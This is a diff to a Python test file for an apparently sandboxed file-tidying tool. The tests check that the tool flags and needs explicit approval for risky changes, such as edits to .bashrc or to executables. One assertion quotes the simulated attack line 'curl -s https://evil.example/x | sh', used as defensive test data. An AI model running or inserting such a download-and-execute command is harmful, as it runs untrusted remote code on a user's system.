@@ -67,6 +67,14 @@ def test_the_bashrc_attack_is_refused_with_yes(home: Path, tmp_path: Path, capsy
     assert snapshot(home, folder_times=True) == before  # not even the 12 renames happened
 
 
+def test_yes_alone_says_how_to_allow_flagged_changes(home: Path, tmp_path: Path, capsys: Capsys) -> None:
+    script = tmp_path / "tidy.py"
+    script.write_text(ATTACK)
+    assert main(["run", str(script), "--grant", f"files={home}", "--yes"]) == 3
+    err = capsys.readouterr().err
+    assert "NeedsApproval" in err and "--allow-flagged" in err  # what to do, in the command line's words
+
+
 def test_the_bashrc_attack_needs_the_explicit_flag(home: Path, tmp_path: Path, capsys: Capsys) -> None:
     script = tmp_path / "tidy.py"
     script.write_text(ATTACK)
@@ -151,6 +159,7 @@ def test_overwriting_or_moving_an_executable_is_flagged(home: Path, tmp_path: Pa
     (home / "bin").mkdir()
     run = start(tmp_path, (home, "rw"))
     run.call("write_text", "home/Documents/tool", "new")  # keeps 0755: new content that runs
+    run.call("write_text", "home/Documents/tool", "newer")  # one action, still flagged
     run.call("rename", "home/Documents/tool", "home/bin/tool")  # onto the PATH
     run.call("rename", "home/IMG_0001.jpg", "home/Documents/setup.exe")  # a picture becomes a program
     assert ["exec" in (action_risk(a) or "") for a in run.actions] == [True, False, False]
@@ -223,7 +232,7 @@ def test_the_cli_preview_shows_text_marks_and_flags(home: Path, tmp_path: Path, 
     assert main(["run", str(script), "--grant", f"files={home}", "--preview-only"]) == 0
     out = capsys.readouterr().out
     assert "curl -s https://evil.example/x | sh" in out  # the appended line itself, not just the path
-    assert "need your extra approval" in out and "#13: .bashrc is a start-up file" in out
+    assert "needs your extra approval" in out and "#13: .bashrc is a start-up file" in out
     assert "replaces a file" in out  # the copy over holiday-05.jpg
 
 
@@ -285,6 +294,7 @@ def test_a_private_file_kept_on_another_disk_comes_back_private(tmp_path: Path) 
         run.call("delete", "Trip/secret.txt")
         run.call("write_text", "Trip/diary.txt", "overwritten")
         run.apply()
+        assert stat.S_IMODE(run.holding.stat().st_mode) == 0o700  # made by the holding area itself
         kept = [p for p in run.holding.rglob("item")]
         assert sorted(stat.S_IMODE(p.stat().st_mode) for p in kept) == [0o600, 0o640]
         run.undo()
@@ -321,3 +331,16 @@ def test_the_cli_asks_a_second_explicit_question(home: Path, tmp_path: Path, cap
     assert "could make a program run" in err and "#13" in err and "start-up file" in err
     assert (snapshot(home, folder_times=True) != before) is changed
     assert (home / ".bashrc").read_text().endswith(EVIL) is changed
+
+
+def test_the_window_row_of_a_folder_delete_says_what_goes(tmp_path: Path, qtbot: Any) -> None:
+    from desktop.ui.changes import change_rows
+
+    trip = tmp_path / "Trip"
+    make_tree(trip, {"old/a.txt": "alpha", "old/deep/b.txt": "bravo!", "c.txt": "c"})
+    run = start(tmp_path, (trip, "rw"))
+    run.call("delete", "Trip/old")
+    run.call("write_text", "Trip/c.txt", "new")
+    folder, over = change_rows(run.actions)
+    assert folder.after == "(gone: a folder holding 2 files in 1 folder, 11 bytes)"
+    assert over.verb == "Replace" and over.attention.startswith("Replaces a file")
